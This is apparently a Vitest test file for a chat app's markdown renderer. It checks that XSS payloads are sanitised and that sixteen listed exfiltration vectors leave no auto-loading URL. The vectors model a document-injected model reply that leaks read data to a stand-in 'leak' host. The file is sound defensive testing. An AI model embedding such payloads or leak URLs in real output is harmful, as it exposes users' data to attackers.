// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { codeLanguage, MAX_HIGHLIGHT_CHARS, renderInline, renderMarkdown } from '../src/lib/markdown';

function text(html: string): string {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d.textContent ?? '';
}

describe('renderMarkdown', () => {
  it.each([
    { md: '**bold** and *it*', has: ['<strong>bold</strong>', '<em>it</em>'] },
    { md: '# Title', has: ['<h1>Title</h1>'] },
    { md: '- a\n- b', has: ['<ul>', '<li>a</li>'] },
    { md: '```go\nfmt.Println(1)\n```', has: ['<pre><code class="hljs language-go">', '<span class="hljs-'] },
    { md: '```\nplain\n```', has: ['<pre><code>plain'] },
    { md: '```klingon\nqapla\n```', has: ['<pre><code class="language-klingon">qapla'] },
    { md: 'a\nb', has: ['a<br>b'] },
    { md: '| x | y |\n|---|---|\n| 1 | 2 |', has: ['<table>', '<td>1</td>'] },
  ])('renders $md', ({ md, has }) => {
    const html = renderMarkdown(md);
    for (const h of has) expect(html).toContain(h);
  });

  it.each([
    '<script>alert(1)</script>hi',
    '<img src=x onerror="alert(1)">',
    '[x](javascript:alert(1))',
    '<iframe src="https://example.com"></iframe>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<style>body{display:none}</style>',
  ])('sanitises %s', (md) => {
    const html = renderMarkdown(md);
    expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|onclick|<style/i);
  });

  // The outside attack run's vectors (exfil.sh): a reply steered by a
  // document, each piece pointing off the laptop with what it read in the
  // URL. None may leave a URL where the browser loads it without a click.
  const LEAK = 'http://127.0.0.1:18799/leak?code=4471-ALPHA';
  it.each([
    { vector: 'a Markdown image', md: `![status](${LEAK})`, shows: `[image: status, ${LEAK}]` },
    { vector: 'a Markdown image without words', md: `![](${LEAK})`, shows: `[image: ${LEAK}]` },
    { vector: 'an <img src>', md: `<img src="${LEAK}" alt="logo">`, shows: `[image: logo, ${LEAK}]` },
    { vector: 'an <img srcset>', md: `<img srcset="${LEAK} 2x">`, shows: '[image]' },
    { vector: 'a style background', md: `<span style="background-image:url(${LEAK})">x</span>`, shows: 'x' },
    { vector: 'a <video poster>', md: `<video poster="${LEAK}" src="${LEAK}"></video>v`, shows: 'v' },
    { vector: 'an <audio> source', md: `<audio><source src="${LEAK}"></audio>a`, shows: 'a' },
    { vector: 'a <picture> source', md: `<picture><source srcset="${LEAK}"></picture>p`, shows: 'p' },
    { vector: 'a table background', md: `<table background="${LEAK}"><tr><td>t</td></tr></table>`, shows: 't' },
    { vector: 'a link ping', md: `<a href="https://example.com" ping="${LEAK}">p</a>`, shows: 'p' },
    { vector: 'an <object>', md: `<object data="${LEAK}"></object>o`, shows: 'o' },
    { vector: 'an <embed>', md: `<embed src="${LEAK}">e`, shows: 'e' },
    { vector: 'a <link> prefetch', md: `<link rel="prefetch" href="${LEAK}">l`, shows: 'l' },
    { vector: 'a <meta> refresh', md: `<meta http-equiv="refresh" content="0;url=${LEAK}">m`, shows: 'm' },
    { vector: 'an SVG image', md: `<svg><image href="${LEAK}"></image></svg>s`, shows: 's' },
    { vector: 'a form', md: `<form action="${LEAK}"><button>go</button></form>f`, shows: 'f' },
  ])('$vector loads nothing', ({ md, shows }) => {
    const d = document.createElement('div');
    d.innerHTML = renderMarkdown(`Here is your answer. ${md}`);
    expect(d.textContent).toContain(shows);
    // Only a link's href may name the URL, and a link is followed on a click only.
    for (const el of d.querySelectorAll('*')) {
      for (const a of el.attributes) {
        if (a.name !== 'href') expect(a.value, `${el.tagName} ${a.name}`).not.toContain('127.0.0.1');
      }
    }
    expect(d.querySelector('img, video, audio, source, picture, object, embed, link, meta, svg, form, [style], [ping], [srcset]')).toBeNull();
  });

  it('a link to the same URL stays a link, followed on a click only', () => {
    const html = renderMarkdown(`[click](${LEAK})`);
    expect(html).toBe(`<p><a href="${LEAK.replace('&', '&amp;')}" target="_blank" rel="noopener noreferrer">click</a></p>\n`);
  });

  it('links open outside the window', () => {
    expect(renderMarkdown('[site](https://example.com)')).toMatch(
      /<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer">site<\/a>/,
    );
  });

  it('textContent is the plain text a person reads', () => {
    expect(text(renderMarkdown('You said: **hello**')).trim()).toBe('You said: hello');
  });

  it('empty input is empty output', () => {
    expect(renderMarkdown('')).toBe('');
  });
});

describe('code blocks', () => {
  function blocks(md: string): HTMLElement {
    const d = document.createElement('div');
    d.innerHTML = renderMarkdown(md);
    return d;
  }

  it.each([
    { info: 'go', want: 'go' },
    { info: 'TS title=x', want: 'ts' },
    { info: 'py', want: 'py' },
    { info: 'sh', want: 'sh' },
    { info: 'html', want: 'html' },
    { info: '', want: null },
    { info: 'klingon', want: null },
    { info: '"><script>', want: null },
  ])('knows the language of "$info"', ({ info, want }) => {
    expect(codeLanguage(info)).toBe(want);
  });

  // The highlighter runs before the sanitiser: markup in a code block, in
  // any language, stays text, and its fence's info cannot reach an attribute.
  it.each([
    { what: 'html', md: '```html\n<script>alert(1)</script><img src=x onerror="alert(1)">\n```' },
    { what: 'js', md: '```js\ndocument.body.innerHTML = "<img src=x onerror=alert(1)>";</code></pre><script>alert(2)</script>\n```' },
    { what: 'no language', md: '```\n<iframe src="https://example.com"></iframe>\n```' },
    { what: 'a hostile info string', md: '```js" onmouseover="alert(1)\n<b>x</b>\n```' },
    { what: 'an unknown language', md: '```<img/src=x/onerror=alert(1)>\n<svg onload=alert(1)>\n```' },
  ])('a hostile code block ($what) injects no markup', ({ md }) => {
    const d = blocks(md);
    const source = md.split('\n').slice(1, -1).join('\n');
    expect(d.querySelector('pre')?.textContent).toBe(source + '\n');
    expect(d.querySelector('script, img, iframe, b, pre svg, [onerror], [onload], [onmouseover]')).toBeNull();
    for (const el of d.querySelectorAll('pre *')) expect(['CODE', 'SPAN']).toContain(el.tagName);
  });

  it('each block gets a copy button that adds no text', () => {
    const d = blocks('one\n\n```go\na := 1\n```\n\ntwo\n\n```\nb\n```');
    expect(d.querySelectorAll('.code-block > button[data-copy-code] + pre')).toHaveLength(2);
    expect(d.textContent?.replace(/\s+/g, ' ').trim()).toBe('one a := 1 two b');
  });

  // A "<pre" that is attribute text must stay attribute text.
  it('a <pre> inside an attribute stays text', () => {
    const d = blocks('<a href="https://example.com" title="<pre><img src=x onerror=alert(1)>">x</a>\n\n```\ny\n```');
    expect(d.querySelector('img, [onerror]')).toBeNull();
    expect(d.querySelector('a')?.getAttribute('title')).toBe('<pre><img src=x onerror=alert(1)>');
    expect(d.querySelectorAll('.code-block')).toHaveLength(1);
  });

  it('a block too long to highlight is shown plain', () => {
    const long = 'x = 1\n'.repeat(MAX_HIGHLIGHT_CHARS / 6 + 1);
    const d = blocks('```python\n' + long + '```');
    expect(d.querySelector('pre code span')).toBeNull();
    expect(d.querySelector('pre code')?.textContent).toBe(long);
  });
});

describe('renderInline', () => {
  it('renders code spans without a paragraph', () => {
    expect(renderInline('start it with `ollama serve`')).toBe('start it with <code>ollama serve</code>');
  });
  it('sanitises', () => {
    expect(renderInline('<img src=x onerror=alert(1)>')).not.toMatch(/onerror/);
  });
});
